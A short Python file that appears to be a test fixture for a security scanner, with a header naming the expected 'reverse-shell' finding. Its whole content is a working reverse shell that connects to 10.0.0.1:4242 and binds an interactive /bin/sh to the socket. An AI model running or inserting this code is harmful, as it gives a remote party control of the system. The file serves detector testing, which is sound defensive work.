# expect: reverse-shell 6:12
import socket, subprocess

s = socket.socket()
s.connect(("10.0.0.1", 4242))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(),
                stderr=s.fileno())
